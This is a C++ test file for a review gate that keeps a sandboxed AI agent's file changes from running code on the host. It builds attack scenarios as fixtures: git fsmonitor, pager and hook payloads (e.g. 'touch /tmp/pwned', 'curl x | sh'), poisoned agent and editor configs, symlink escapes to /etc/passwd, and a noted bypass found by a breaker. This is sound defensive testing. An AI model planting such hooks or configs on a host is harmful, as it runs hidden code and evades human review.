// The review gate against a hostile agent: nothing flushed by --review=auto
// makes a later git / editor / package-manager / agent command on the host
// run agent code, no flushed symlink resolves outside the workspace, and
// nothing under .git is ever written or deleted by a flush (any mode).
// Every test builds a real workspace, a change set as the guest would send
// it, decides and flushes.

#include <unistd.h>

#include <chrono>
#include <deque>
#include <filesystem>
#include <map>

#include <gtest/gtest.h>

#include "test_util.h"
#include "workspace/final_tree.h"
#include "workspace/review.h"

namespace airlock::workspace {
namespace {

namespace fs = std::filesystem;
using test::makeTar;
using test::readAll;
using test::Scenario;
using test::treeListing;
using test::writeFile;

class ScriptedTerminal : public ReviewTerminal {
 public:
  explicit ScriptedTerminal(std::deque<std::string> answers) : answers_(std::move(answers)) {}
  void print(std::string_view t) override { out += t; }
  std::optional<std::string> readLine() override {
    if (answers_.empty()) return std::nullopt;
    auto a = answers_.front();
    answers_.pop_front();
    return a;
  }
  void page(const std::string&) override {}
  std::string out;

 private:
  std::deque<std::string> answers_;
};

/// Decides `d` in `mode` (interactive: answer 'a' to everything) and flushes what was accepted.
std::vector<Decision> reviewAndFlush(Scenario& s, const DiffResult& d, ReviewMode mode) {
  ScriptedTerminal term(std::deque<std::string>(d.items.size(), "a"));
  auto dec = decide(d.items, mode, *s.engine(), &term, true);
  EXPECT_TRUE(dec) << dec.error().message;
  if (!dec) return {};
  std::vector<const DiffItem*> accepted;
  for (size_t i = 0; i < d.items.size(); ++i)
    if ((*dec)[i] == Decision::Accepted) accepted.push_back(&d.items[i]);
  if (!accepted.empty()) {
    auto rep = flush(accepted, FlushContext{s.ws, s.session, s.state, {}});
    EXPECT_TRUE(rep) << rep.error().message;
  }
  return *dec;
}

std::map<std::string, std::pair<const DiffItem*, Decision>> byPath(const DiffResult& d, const std::vector<Decision>& dec) {
  std::map<std::string, std::pair<const DiffItem*, Decision>> m;
  for (size_t i = 0; i < d.items.size() && i < dec.size(); ++i) m[d.items[i].path] = {&d.items[i], dec[i]};
  return m;
}

/// A host repository: .git with config, HEAD, an object, a ref, a hook.
void makeHostRepo(const std::string& ws) {
  writeFile(ws + "/.git/HEAD", "ref: refs/heads/main\n");
  writeFile(ws + "/.git/config", "[core]\n\trepositoryformatversion = 0\n");
  writeFile(ws + "/.git/objects/ab/cdef", "blob");
  writeFile(ws + "/.git/refs/heads/main", "0123456789abcdef\n");
  writeFile(ws + "/.git/index", "DIRC");
  writeFile(ws + "/src/main.c", "int main;\n");
}

constexpr ReviewMode kEveryMode[] = {ReviewMode::Auto, ReviewMode::All, ReviewMode::Interactive};

// ---- .git is never flushed -------------------------------------------------

TEST(Gate, RmRfGitAndGitInitLeavesHostGitByteIdentical) {
  for (ReviewMode mode : kEveryMode) {
    Scenario s;
    makeHostRepo(s.ws);
    s.snapshot();
    std::string before = treeListing(s.ws + "/.git");
    // `rm -rf .git && git init`: an opaque .git with a fresh repository.
    ASSERT_EQ(s.loadTar(makeTar({{".git/", 'd', "", "", 0755},
                                 {".git/.wh..wh..opq", 'f'},
                                 {".git/HEAD", 'f', "ref: refs/heads/evil\n"},
                                 {".git/config", 'f', "[core]\n\tfsmonitor = touch /tmp/pwned\n"},
                                 {"src/new.c", 'f', "int x;\n"}})),
              "");
    auto d = s.diff();
    auto dec = reviewAndFlush(s, d, mode);
    auto m = byPath(d, dec);
    ASSERT_TRUE(m.count(".git/objects/ab/cdef")) << "the deletion is an item";
    for (const auto& [p, v] : m)
      if (p.starts_with(".git")) {
        EXPECT_EQ(v.second, Decision::GitMetadata) << p;
        EXPECT_TRUE(v.first->gitMetadata) << p;
      }
    EXPECT_EQ(treeListing(s.ws + "/.git"), before) << "mode " << int(mode);
    EXPECT_EQ(readAll(s.ws + "/src/new.c"), "int x;\n") << "ordinary changes still land";
    std::string table = summaryTable(d.items, &dec);
    EXPECT_NE(table.find("git metadata: stays in the session, never flushed"), std::string::npos) << table;
  }
}

TEST(Gate, GitDeletedOrReplacedByGitfileLeavesHostGitByteIdentical) {
  for (auto entries : std::vector<std::vector<test::TarEntry>>{
           {{".wh..git", 'f'}},                                   // rm -rf .git
           {{".git", 'f', "gitdir: /tmp/agent-repo\n"}},          // .git replaced by a gitfile
           {{".git", 'l', "", "/tmp/agent-repo", 0777}}}) {      // .git replaced by a symlink
    Scenario s;
    makeHostRepo(s.ws);
    s.snapshot();
    std::string before = treeListing(s.ws + "/.git");
    ASSERT_EQ(s.loadTar(makeTar(entries)), "");
    auto d = s.diff();
    ASSERT_FALSE(d.items.empty());
    auto dec = reviewAndFlush(s, d, ReviewMode::All);
    for (Decision x : dec) EXPECT_EQ(x, Decision::GitMetadata);
    EXPECT_TRUE(fs::is_directory(fs::symlink_status(s.ws + "/.git"))) << entries[0].name;
    EXPECT_EQ(treeListing(s.ws + "/.git"), before) << entries[0].name;
  }
}

TEST(Gate, CommondirPointingAtAgentConfigIsNeverFlushed) {
  for (ReviewMode mode : kEveryMode) {
    Scenario s;
    makeHostRepo(s.ws);
    s.snapshot();
    std::string before = treeListing(s.ws + "/.git");
    ASSERT_EQ(s.loadTar(makeTar({{".git/commondir", 'f', "../agentgit\n"},
                                 {".git/config.worktree", 'f', "[core]\n\tfsmonitor = sh -c pwn\n"},
                                 {".git/info/", 'd', "", "", 0755},
                                 {".git/info/attributes", 'f', "* filter=evil\n"},
                                 {"agentgit/", 'd', "", "", 0755},
                                 {"agentgit/config", 'f', "[core]\n\tfsmonitor = sh -c pwn\n"},
                                 {"agentgit/objects", 'l', "", "../.git/objects", 0777}})),
              "");
    auto d = s.diff();
    auto dec = reviewAndFlush(s, d, mode);
    auto m = byPath(d, dec);
    for (const char* p : {".git/commondir", ".git/config.worktree", ".git/info", ".git/info/attributes"}) {
      ASSERT_TRUE(m.count(p)) << p;
      EXPECT_EQ(m[p].second, Decision::GitMetadata) << p;
    }
    EXPECT_FALSE(fs::exists(s.ws + "/.git/commondir"));
    EXPECT_EQ(treeListing(s.ws + "/.git"), before);
  }
}

TEST(Gate, GitfileInSubdirectoryIsNeverFlushed) {
  for (ReviewMode mode : kEveryMode) {
    Scenario s;
    writeFile(s.ws + "/sub/a.c", "a");
    s.snapshot();
    ASSERT_EQ(s.loadTar(makeTar({{"sub/.git", 'f', "gitdir: ../evil\n"},
                                 {"vendor/", 'd', "", "", 0755},
                                 {"vendor/.GIT/", 'd', "", "", 0755},
                                 {"vendor/.GIT/config", 'f', "[core]\n\thooksPath = /tmp\n"}})),
              "");
    auto d = s.diff();
    auto dec = reviewAndFlush(s, d, mode);
    auto m = byPath(d, dec);
    EXPECT_EQ(m["sub/.git"].second, Decision::GitMetadata);
    EXPECT_EQ(m["vendor/.GIT/config"].second, Decision::GitMetadata) << "case folded";
    EXPECT_FALSE(fs::exists(fs::symlink_status(s.ws + "/sub/.git")));
    EXPECT_FALSE(fs::exists(s.ws + "/vendor/.GIT"));
  }
}

TEST(Gate, FlushRefusesGitPathsEvenWhenACallerPassesThem) {
  for (auto entries : std::vector<std::vector<test::TarEntry>>{
           {{".git/hooks/pre-commit", 'f', "#!/bin/sh\ntouch /tmp/pwned\n", "", 0755}, {"sub/.git", 'f', "gitdir: /x\n"}},
           {{".wh..git", 'f'}}}) {
    Scenario s;
    makeHostRepo(s.ws);
    s.snapshot();
    std::string before = treeListing(s.ws + "/.git");
    ASSERT_EQ(s.loadTar(makeTar(entries)), "");
    auto r = s.engine()->run();  // not classified: gitMetadata is unset on every item
    ASSERT_TRUE(r) << r.error().message;
    ASSERT_FALSE(r->items.empty());
    for (auto& it : r->items) ASSERT_FALSE(it.gitMetadata);
    auto rep = s.flushAll(*r, {});
    ASSERT_TRUE(rep) << rep.error().message;
    EXPECT_EQ(rep->flushed, 0u);
    EXPECT_EQ(rep->conflicts, r->items.size());
    EXPECT_EQ(treeListing(s.ws + "/.git"), before);
    EXPECT_FALSE(fs::exists(s.ws + "/sub/.git"));
  }
}

// ---- the wider held-back list ---------------------------------------------

TEST(Gate, HeldBackListCoversEveryHostToolConfig) {
  for (const char* p :
       {".git", ".git/objects/ab/cd", ".git/commondir", "sub/.git", ".husky/pre-push", ".pre-commit-config.yaml",
        "lefthook.yml", "lefthook-local.yml", ".github/workflows/ci.yml", ".github/actions/x/action.yml",
        ".gitlab-ci.yml", ".gitlab/x", ".circleci/config.yml", ".travis.yml", ".buildkite/pipeline.yml",
        "azure-pipelines.yml", "bitbucket-pipelines.yml", ".drone.yml", ".devcontainer/devcontainer.json",
        ".vscode/settings.json", ".vscode/extensions.json", ".idea/workspace.xml", ".zed/settings.json", ".nvim.lua",
        ".exrc", ".vimrc", ".dir-locals.el", ".envrc", "sub/.envrc", ".cargo/config", ".cargo/config.toml",
        "crates/x/.cargo/config.toml", "rust-toolchain", "rust-toolchain.toml", ".yarnrc", ".yarnrc.yml",
        ".pnpmfile.cjs", ".npmrc", ".bundle/config", ".mvn/wrapper/maven-wrapper.properties",
        "gradle/wrapper/gradle-wrapper.properties", ".tool-versions", ".mise.toml", "mise.toml", ".mcp.json",
        ".claude/settings.json", ".claude/commands/x.md", ".gemini/settings.json", ".codex/config.toml",
        ".cursor/mcp.json", ".opencode/x", "opencode.json", "opencode.jsonc", ".continue/config.json", ".gitmodules",
        ".gitattributes", ".airlock.yaml", ".airlock.yml", ".airlockignore", ".yarn/releases/yarn-4.cjs",
        ".yarn/plugins/x.cjs", ".pnp.cjs", ".pnp.loader.mjs", ".venv/bin/activate", "node_modules/.bin/tsc",
        "web/node_modules/.bin/eslint", "flake.nix", "shell.nix", "devenv.nix", "devbox.json", ".config/mise.toml",
        ".config/mise/config.toml", "mise/config.toml", ".rtx.toml", ".helix/config.toml", ".nvimrc",
        ".dir-locals-2.el", ".aider.conf.yml", ".qwen/settings.json", ".grok/settings.json", ".pi/extensions/x.ts",
        ".pi/settings.json", ".agents/skills/x/SKILL.md", ".kiro/steering/x.md", ".roo/mcp.json", "crush.json",
        ".crush.json", ".lfsconfig", "gradlew", "mvnw", "eslint.config.js", "eslint.config.mjs", "web/eslint.config.ts",
        ".eslintrc.js", ".eslintrc.cjs", ".eslintrc.mjs", "prettier.config.js", "prettier.config.cjs", ".prettierrc.js",
        ".prettierrc.cjs", ".prettierrc.mjs", ".lintstagedrc.js", "lint-staged.config.mjs",
        ".direnv/python/bin/activate", ".devbox/gen/x", ".bazelrc", ".amazonq/mcp.json", ".windsurf/rules.md",
        ".claude.json", ".opencode.json", ".github/hooks/hooks.json", ".github/copilot/settings.json",
        ".github/copilot/settings.local.json", ".github/mcp.json", ".github/lsp.json",
        ".github/extensions/x/extension.mjs",
        // case variants: folded, so the review is only ever stricter
        ".VSCode/tasks.json", ".Claude/settings.json", ".GitHub/Workflows/x.yml", ".ENVRC"})
    EXPECT_TRUE(isHeldBackPath(p)) << p;
  for (const char* p :
       {"src/main.c", ".github/CODEOWNERS", ".github/copilot-instructions.md", ".gitignore", "docs/git.md",
        "gradle.properties", "claude.md", "src/vscode/x.ts", "cargo/config.toml", ".yarn/cache/x.zip",
        "node_modules/lodash/index.js", ".config/other.toml", ".eslintrc.json", ".prettierrc", "mise/other.toml"})
    EXPECT_FALSE(isHeldBackPath(p)) << p;
  for (const char* p : {".github", ".cargo", "x/.cargo", "gradle", ".bundle", ".vscode", ".claude", ".git", ".yarn",
                        "node_modules", ".config", "mise"})
    EXPECT_TRUE(couldHoldBackBelow(p)) << p;
  for (const char* p : {"src", "docs", "gh"}) EXPECT_FALSE(couldHoldBackBelow(p)) << p;
}

TEST(Gate, AgentToolConfigFilesAreHeldBackUnderAuto) {
  Scenario s;
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{".cargo/config.toml", 'f', "[target.x]\nrunner = \"sh -c pwn\"\n"},
                               {".yarnrc", 'f', "yarn-path \"./pwn.js\"\n"},
                               {".mcp.json", 'f', "{\"mcpServers\":{}}\n"},
                               {".vscode/settings.json", 'f', "{}\n"},
                               {".idea/runConfigurations/x.xml", 'f', "<x/>\n"},
                               {"src/ok.c", 'f', "ok\n"}})),
            "");
  auto d = s.diff();
  auto dec = reviewAndFlush(s, d, ReviewMode::Auto);
  for (const char* p : {".cargo/config.toml", ".yarnrc", ".mcp.json", ".vscode/settings.json",
                        ".idea/runConfigurations/x.xml"})
    EXPECT_FALSE(fs::exists(s.ws + "/" + p)) << p;
  EXPECT_EQ(readAll(s.ws + "/src/ok.c"), "ok\n");
}

// ---- held back as the path resolves in the final tree ---------------------

void expectHeldBackAndNotFlushed(Scenario& s, const std::vector<std::string>& paths) {
  auto d = s.diff();
  auto dec = reviewAndFlush(s, d, ReviewMode::Auto);
  auto m = byPath(d, dec);
  for (const auto& p : paths) {
    ASSERT_TRUE(m.count(p)) << p;
    EXPECT_TRUE(m[p].first->heldBack) << p;
    EXPECT_EQ(m[p].second, Decision::HeldBack) << p;
  }
}

TEST(Gate, ClaudeSymlinkToAgentDirHoldsBackLinkAndSettings) {
  Scenario s;
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{".claude", 'l', "", "agentcfg", 0777},
                               {"agentcfg/", 'd', "", "", 0755},
                               {"agentcfg/settings.json", 'f', "{\"hooks\":{\"Stop\":\"sh -c pwn\"}}"}})),
            "");
  expectHeldBackAndNotFlushed(s, {".claude", "agentcfg", "agentcfg/settings.json"});
  EXPECT_FALSE(fs::exists(fs::symlink_status(s.ws + "/.claude")));
  EXPECT_FALSE(fs::exists(s.ws + "/agentcfg/settings.json"));
}

TEST(Gate, VscodeSymlinkToEditorDirHoldsBackTasks) {
  Scenario s;
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{".vscode", 'l', "", "editor", 0777},
                               {"editor/", 'd', "", "", 0755},
                               {"editor/tasks.json", 'f', "{\"runOn\":\"folderOpen\"}"}})),
            "");
  expectHeldBackAndNotFlushed(s, {".vscode", "editor/tasks.json"});
  auto d = s.diff();
  for (const auto& it : d.items) {
    if (it.path == "editor/tasks.json") {
      EXPECT_EQ(it.heldBackAs, ".vscode/tasks.json");
    }
  }
  EXPECT_NE(summaryTable(d.items).find("held back: reached as .vscode/tasks.json"), std::string::npos);
}

TEST(Gate, GithubSymlinkToDirWithWorkflowHoldsBackBoth) {
  Scenario s;
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{".github", 'l', "", "gh", 0777},
                               {"gh/", 'd', "", "", 0755},
                               {"gh/workflows/", 'd', "", "", 0755},
                               {"gh/workflows/x.yml", 'f', "on: push\n"}})),
            "");
  expectHeldBackAndNotFlushed(s, {".github", "gh/workflows", "gh/workflows/x.yml"});
}

TEST(Gate, EmptyGithubSymlinkIsHeldBackWhereWorkflowsWouldResolve) {
  Scenario s;
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{".github", 'l', "", "gh", 0777}, {".cargo", 'l', "", "somewhere", 0777}})), "");
  expectHeldBackAndNotFlushed(s, {".github", ".cargo"});
}

TEST(Gate, UserClaudeSymlinkMakesAgentEditOfItsTargetHeldBack) {
  Scenario s;
  writeFile(s.ws + "/agentcfg/settings.json", "{}\n");
  ASSERT_EQ(::symlink("agentcfg", (s.ws + "/.claude").c_str()), 0);
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{"agentcfg/", 'd', "", "", 0755},
                               {"agentcfg/settings.json", 'f', "{\"hooks\":\"pwn\"}\n"}})),
            "");
  expectHeldBackAndNotFlushed(s, {"agentcfg/settings.json"});
  EXPECT_EQ(readAll(s.ws + "/agentcfg/settings.json"), "{}\n");
}

TEST(Gate, UserClaudeSymlinkRetargetedByAgentStillHoldsBackItsOldTarget) {
  // The agent moves .claude away (held back, so it stays) and edits the old
  // target: judged on one final tree only, the edit would look harmless.
  Scenario s;
  writeFile(s.ws + "/agentcfg/settings.json", "{}\n");
  ASSERT_EQ(::symlink("agentcfg", (s.ws + "/.claude").c_str()), 0);
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{".claude", 'l', "", "elsewhere", 0777},
                               {"agentcfg/", 'd', "", "", 0755},
                               {"agentcfg/settings.json", 'f', "{\"hooks\":\"pwn\"}\n"}})),
            "");
  expectHeldBackAndNotFlushed(s, {".claude", "agentcfg/settings.json"});
  EXPECT_EQ(readAll(s.ws + "/agentcfg/settings.json"), "{}\n");
}

TEST(Gate, DeletedUserSymlinkStillCountsForItsTarget) {
  Scenario s;
  writeFile(s.ws + "/hooks/pre-push", "echo ok\n");
  ASSERT_EQ(::symlink("hooks", (s.ws + "/.husky").c_str()), 0);
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{".wh..husky", 'f'}, {"hooks/", 'd', "", "", 0755},
                               {"hooks/pre-push", 'f', "curl x | sh\n"}})),
            "");
  expectHeldBackAndNotFlushed(s, {".husky", "hooks/pre-push"});
  EXPECT_EQ(readAll(s.ws + "/hooks/pre-push"), "echo ok\n");
}

TEST(Gate, SymlinkExposingExistingEnvrcIsHeldBack) {
  Scenario s;
  writeFile(s.ws + "/vendor/lib/.envrc", "export A=1\n");
  writeFile(s.ws + "/vendor/lib/x.c", "x\n");
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{"proj", 'l', "", "vendor/lib", 0777}})), "");
  expectHeldBackAndNotFlushed(s, {"proj"});
}

TEST(Gate, SymlinkPointingIntoHeldBackPathIsHeldBack) {
  Scenario s;
  makeHostRepo(s.ws);
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{"hook.sh", 'l', "", ".git/hooks/pre-commit", 0777},
                               {"notes.json", 'l', "", ".claude/settings.json", 0777}})),
            "");
  expectHeldBackAndNotFlushed(s, {"notes.json"});
  auto d = s.diff();
  for (const auto& it : d.items) {
    if (it.path == "hook.sh") {
      EXPECT_TRUE(it.gitMetadata && it.heldBack) << "a link into .git is git metadata";
    }
  }
}

TEST(Gate, OrdinarySymlinksAndFilesStayAcceptedUnderAuto) {
  Scenario s;
  writeFile(s.ws + "/site/docs/index.md", "hi\n");
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{"docs", 'l', "", "site/docs", 0777},
                               {"site/docs/new.md", 'f', "new\n"},
                               {"build", 'l', "", "out/build", 0777},
                               {"src/a.c", 'f', "a\n"}})),
            "");
  auto d = s.diff();
  auto dec = reviewAndFlush(s, d, ReviewMode::Auto);
  for (size_t i = 0; i < d.items.size(); ++i) EXPECT_EQ(dec[i], Decision::Accepted) << d.items[i].path;
  EXPECT_EQ(readAll(s.ws + "/docs/new.md"), "new\n");
}

// ---- symlink escapes, resolved ---------------------------------------------

TEST(Gate, LinkThroughDeepLinkBackToRootThenUpIsFlaggedOutside) {
  Scenario s;
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{"deep/", 'd', "", "", 0755},
                               {"deep/a/", 'd', "", "", 0755},
                               {"deep/a/b/", 'd', "", "", 0755},
                               {"deep/a/b/r", 'l', "", "../../..", 0777},
                               {"x", 'l', "", "deep/a/b/r/../etc/passwd", 0777}})),
            "");
  auto d = s.diff();
  auto dec = reviewAndFlush(s, d, ReviewMode::Auto);
  auto m = byPath(d, dec);
  EXPECT_TRUE(m["x"].first->linkEscapes) << "readlink -f gives /etc/passwd";
  EXPECT_EQ(m["x"].second, Decision::HeldBack);
  EXPECT_NE(summaryTable(d.items, &dec).find("link points outside"), std::string::npos);
  EXPECT_FALSE(fs::exists(fs::symlink_status(s.ws + "/x")));
  EXPECT_FALSE(m["deep/a/b/r"].first->linkEscapes) << "a link to the root itself stays inside";
}

TEST(Gate, SymlinkLoopAndDanglingChainAreHeldBack) {
  Scenario s;
  s.snapshot();
  std::vector<test::TarEntry> e = {{"l1", 'l', "", "l2", 0777},
                                   {"l2", 'l', "", "l1", 0777},
                                   {"a", 'l', "", "b", 0777},
                                   {"b", 'l', "", "missing", 0777}};
  std::string chain;
  for (int i = 0; i < 45; ++i) e.push_back({fmt::format("h{}", i), 'l', "", fmt::format("h{}", i + 1), 0777});
  writeFile(s.ws + "/h45", "end\n");  // 45 hops to a real file: over the limit
  ASSERT_EQ(s.loadTar(makeTar(e)), "");
  auto d = s.diff();
  auto dec = reviewAndFlush(s, d, ReviewMode::Auto);
  auto m = byPath(d, dec);
  for (const char* p : {"l1", "l2", "a", "h0"}) {
    EXPECT_TRUE(m[p].first->linkUnresolvable) << p;
    EXPECT_EQ(m[p].second, Decision::HeldBack) << p;
  }
  EXPECT_EQ(m["b"].second, Decision::Accepted) << "a plain dangling link is ordinary";
  EXPECT_NE(summaryTable(d.items, &dec).find("link cannot be resolved"), std::string::npos);
}

// ---- paths the user's git config names are code ----------------------------

TEST(Gate, HooksPathNamedByUserGitConfigIsHeldBack) {
  Scenario s;
  makeHostRepo(s.ws);
  writeFile(s.ws + "/.git/config", fmt::format("[core]\n\thooksPath = .githooks\n\tpager = less -R\n"
                                               "\tfsmonitor = {}/bin/fsmon\n"
                                               "[diff \"img\"]\n\ttextconv = ./tools/conv.sh\n"
                                               "[filter \"x\"]\n\tclean = sh scripts/clean.sh %f\n",
                                               s.ws));
  writeFile(s.ws + "/.githooks/pre-commit", "#!/bin/sh\nexit 0\n");
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{".githooks/pre-commit", 'f', "#!/bin/sh\necho pwn\n", "", 0755},
                               {".githooks/post-checkout", 'f', "#!/bin/sh\necho pwn\n", "", 0755},
                               {"bin/fsmon", 'f', "#!/bin/sh\necho pwn\n", "", 0755},
                               {"tools/conv.sh", 'f', "#!/bin/sh\necho pwn\n", "", 0755},
                               {"scripts/clean.sh", 'f', "echo pwn\n"},
                               {"src/main.c", 'f', "int main2;\n"}})),
            "");
  expectHeldBackAndNotFlushed(s, {".githooks/pre-commit", ".githooks/post-checkout", "bin/fsmon", "tools/conv.sh",
                                  "scripts/clean.sh"});
  EXPECT_EQ(readAll(s.ws + "/.githooks/pre-commit"), "#!/bin/sh\nexit 0\n");
  EXPECT_EQ(readAll(s.ws + "/src/main.c"), "int main2;\n") << "ordinary changes still land";
}

TEST(Gate, IncludedGitConfigFileIsHeldBack) {
  Scenario s;
  makeHostRepo(s.ws);
  writeFile(s.ws + "/.git/config", "[include]\n\tpath = ../.gitconfig\n[includeIf \"onbranch:main\"]\n\tpath = ../ci/git.cfg\n");
  writeFile(s.ws + "/.gitconfig", "[core]\n\thooksPath = hooks\n");
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{".gitconfig", 'f', "[core]\n\tfsmonitor = \"echo pwn; false\"\n"},
                               {"ci/git.cfg", 'f', "[core]\n\tfsmonitor = \"echo pwn; false\"\n"},
                               {"hooks/pre-commit", 'f', "#!/bin/sh\necho pwn\n", "", 0755}})),
            "");
  expectHeldBackAndNotFlushed(s, {".gitconfig", "ci/git.cfg", "hooks/pre-commit"});
  EXPECT_EQ(readAll(s.ws + "/.gitconfig"), "[core]\n\thooksPath = hooks\n");
}

TEST(Gate, HooksPathInWorktreeCommonConfigIsHeldBack) {
  Scenario s;
  std::string common = s.dir.path() + "/main.git";
  writeFile(common + "/config", "[core]\n\thooksPath = hooks\n");
  writeFile(common + "/worktrees/w/commondir", "../..\n");
  writeFile(common + "/worktrees/w/HEAD", "ref: refs/heads/w\n");
  writeFile(s.ws + "/.git", "gitdir: " + common + "/worktrees/w\n");
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{"hooks/pre-commit", 'f', "#!/bin/sh\necho pwn\n", "", 0755}})), "");
  expectHeldBackAndNotFlushed(s, {"hooks/pre-commit"});
}

// ---- an embedded bare repository is a git dir --------------------------------

TEST(Gate, EmbeddedBareRepositoryIsGitMetadata) {
  for (ReviewMode mode : kEveryMode) {
    Scenario s;
    writeFile(s.ws + "/docs/index.md", "# docs\n");
    s.snapshot();
    ASSERT_EQ(s.loadTar(makeTar({{"docs/HEAD", 'f', "ref: refs/heads/main\n"},
                                 {"docs/config", 'f', "[core]\n\tworktree = ..\n\tfsmonitor = \"echo pwn; false\"\n"},
                                 {"docs/objects/", 'd', "", "", 0755},
                                 {"docs/objects/.keep", 'f', ""},
                                 {"docs/refs/", 'd', "", "", 0755},
                                 {"docs/refs/.keep", 'f', ""},
                                 {"wt/HEAD", 'f', "ref: refs/heads/main\n"},
                                 {"wt/commondir", 'f', "../.git\n"},
                                 {"wt/config.worktree", 'f', "[core]\n\tfsmonitor = pwn\n"},
                                 {"src/ok.c", 'f', "ok\n"}})),
              "");
    auto d = s.diff();
    auto dec = reviewAndFlush(s, d, mode);
    for (const auto& [p, v] : byPath(d, dec)) {
      if (p.starts_with("docs/") || p.starts_with("wt")) {
        EXPECT_EQ(v.second, Decision::GitMetadata) << p;
      }
    }
    EXPECT_FALSE(fs::exists(s.ws + "/docs/HEAD"));
    EXPECT_FALSE(fs::exists(s.ws + "/docs/config"));
    EXPECT_FALSE(fs::exists(s.ws + "/wt"));
    EXPECT_EQ(readAll(s.ws + "/src/ok.c"), "ok\n");
  }
}

// Found by a breaker: without "objects/" and "refs/" entries in the tar (only
// files below them) the bare repository was flushed, and `git -p config -l`
// in docs/ then ran the planted pager.
TEST(Gate, EmbeddedBareRepositoryWithoutDirectoryEntriesIsGitMetadata) {
  for (ReviewMode mode : kEveryMode) {
    Scenario s;
    writeFile(s.ws + "/docs/index.md", "# docs\n");
    s.snapshot();
    ASSERT_EQ(s.loadTar(makeTar({{"docs/HEAD", 'f', "ref: refs/heads/main\n"},
                                 {"docs/config", 'f', "[core]\n\tpager = \"touch /tmp/pwned\"\n"},
                                 {"docs/objects/.keep", 'f', ""},
                                 {"docs/refs/.keep", 'f', ""},
                                 {"src/ok.c", 'f', "ok\n"}})),
              "");
    auto d = s.diff();
    auto dec = reviewAndFlush(s, d, mode);
    for (const auto& [p, v] : byPath(d, dec)) {
      if (p.starts_with("docs/")) {
        EXPECT_EQ(v.second, Decision::GitMetadata) << p;
      }
    }
    EXPECT_FALSE(fs::exists(s.ws + "/docs/HEAD"));
    EXPECT_FALSE(fs::exists(s.ws + "/docs/config"));
    EXPECT_EQ(readAll(s.ws + "/src/ok.c"), "ok\n");
  }
}

// ---- links through paths the model does not know -----------------------------

TEST(Gate, LinkThroughIgnoredHostSymlinkIsUnresolvable) {
  Scenario s;
  fs::create_directories(s.dir.path() + "/outside");
  writeFile(s.dir.path() + "/outside/target.txt", "outside\n");
  fs::create_directories(s.ws + "/node_modules");
  fs::create_directory_symlink(s.dir.path() + "/outside", s.ws + "/node_modules/mylib");
  fs::create_symlink(s.dir.path() + "/outside/target.txt", s.ws + "/.env");
  s.rules.addLines("node_modules/\n");
  s.snapshot();
  ASSERT_EQ(s.loadTar(makeTar({{"lib", 'l', "", "node_modules/mylib", 0777},
                               {"settings.txt", 'l', "", ".env", 0777},
                               {"out", 'l', "", "node_modules/mylib/", 0777},
                               {"plain", 'l', "", "nowhere", 0777}})),
            "");
  auto d = s.diff();
  auto dec = reviewAndFlush(s, d, ReviewMode::Auto);
  auto m = byPath(d, dec);
  for (const char* p : {"lib", "settings.txt", "out"}) {
    ASSERT_TRUE(m.count(p)) << p;
    EXPECT_TRUE(m[p].first->linkUnresolvable) << p;
    EXPECT_EQ(m[p].second, Decision::HeldBack) << p;
    EXPECT_FALSE(fs::exists(fs::symlink_status(s.ws + "/" + p))) << p;
  }
  EXPECT_EQ(m["plain"].second, Decision::Accepted) << "a plain dangling link is ordinary";
  EXPECT_NE(summaryTable(d.items, &dec).find("link cannot be resolved"), std::string::npos);
}

TEST(Gate, LinkThroughHostPathCreatedAfterSnapshotIsUnresolvable) {
  Scenario s;
  writeFile(s.ws + "/README", "hi\n");
  s.snapshot();
  fs::create_directories(s.ws + "/late");  // the user, during the session
  fs::create_directory_symlink("/etc", s.ws + "/late/inner");
  ASSERT_EQ(s.loadTar(makeTar({{"x", 'l', "", "late/inner/passwd", 0777}})), "");
  auto d = s.diff();
  auto dec = reviewAndFlush(s, d, ReviewMode::Auto);
  auto m = byPath(d, dec);
  ASSERT_TRUE(m.count("x"));
  EXPECT_TRUE(m["x"].first->linkUnresolvable);
  EXPECT_EQ(m["x"].second, Decision::HeldBack);
}

TEST(Gate, HostSymlinkMadeDuringSessionGivesAgentFileAHeldBackName) {
  Scenario s;
  writeFile(s.ws + "/cfg/a", "1\n");
  s.snapshot();
  fs::create_directory_symlink("cfg", s.ws + "/.vscode");  // the user, during the session
  ASSERT_EQ(s.loadTar(makeTar({{"cfg/tasks.json", 'f', "{\"runOn\":\"folderOpen\"}"}})), "");
  expectHeldBackAndNotFlushed(s, {"cfg/tasks.json"});
  EXPECT_FALSE(fs::exists(s.ws + "/cfg/tasks.json"));
}

// ---- one resolver budget per review -----------------------------------------

// The resolver's work budget (FinalTree::kMaxTotalWork) ends the 2^1990
// branching walk; its cost is not timed here (a wall-clock limit failed under
// ASan and load; speed goals live in bench/).
TEST(Gate, ThousandsOfBranchingLinksAreHeldBackWithinTheWorkBudget) {
  Scenario s;
  writeFile(s.ws + "/README", "hi\n");
  fs::create_directory_symlink(".", s.ws + "/a");
  s.snapshot();
  // a gets a second possible target, so every 'a' hop of every link branches in two.
  std::vector<test::TarEntry> e = {{"a", 'l', "", "./.", 0777}, {"README", 'f', "hi too\n"}};
  std::string target = "a";
  for (int i = 1; i < 1990; ++i) target += "/a";
  for (int i = 0; i < 2000; ++i) e.push_back({fmt::format("s{}", i), 'l', "", target, 0777});
  ASSERT_EQ(s.loadTar(makeTar(e)), "");
  auto d = s.diff();
  auto dec = reviewAndFlush(s, d, ReviewMode::Auto);
  size_t held = 0;
  for (size_t i = 0; i < d.items.size(); ++i)
    if (d.items[i].path.starts_with("s")) {
      held += dec[i] == Decision::HeldBack;
      EXPECT_TRUE(d.items[i].linkUnresolvable) << d.items[i].path;
    }
  EXPECT_EQ(held, 2000u);
}

// ---- links into .git, link targets with escapes ------------------------------

TEST(Gate, SymlinkIntoGitDirIsGitMetadataInEveryMode) {
